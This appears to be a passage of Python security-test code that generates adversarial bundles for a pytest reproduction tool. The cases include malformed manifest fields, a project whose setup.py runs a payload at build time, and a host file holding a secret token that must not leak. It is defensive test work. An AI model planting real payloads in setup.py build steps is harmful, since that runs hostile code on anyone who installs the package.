        return write(derive(kit, "pytest-field-runs", manifest=lambda m: m.update(pytest={"runs": 100000})),
                     out_dir, "pytest-field-runs")

    @add("pytest-field-bad", "ask", EITHER, "manifest field pytest with unknown keys and wrong types")
    def _(kit, out_dir):
        return write(derive(kit, "pytest-field-bad", manifest=lambda m: m.update(pytest={
            "evil": 1, "marks": [["x"]], "timeout": "soon"})), out_dir, "pytest-field-bad")

    return out


def _raw(out_dir: Path, name: str, data: bytes) -> Path:
    path = out_dir / f"{name}.reprex.zip"
    path.write_bytes(data)
    return path


def evil_project(kit: Kit) -> Path:
    """A local project whose build runs the payload: what -e / file:// lines would build."""
    root = kit.marker_dir / "evilproj"
    root.mkdir(exist_ok=True)
    (root / "setup.py").write_text(kit.payload("evilproj-build") + "\nfrom setuptools import setup\n"
                                   "setup(name='evilproj', version='1.0')\n")
    return root


def host_source(kit: Kit) -> tuple[Path, str]:
    """A host file a bundle names as a frame's source; its secret must not leave the host."""
    secret = "HOST-ONLY-" + os.urandom(8).hex()
    path = kit.marker_dir / "hostsecret.py"
    path.write_text(f"def leak(x):\n    TOKEN = {secret!r}\n    raise ValueError(x)\n")
    return path, secret
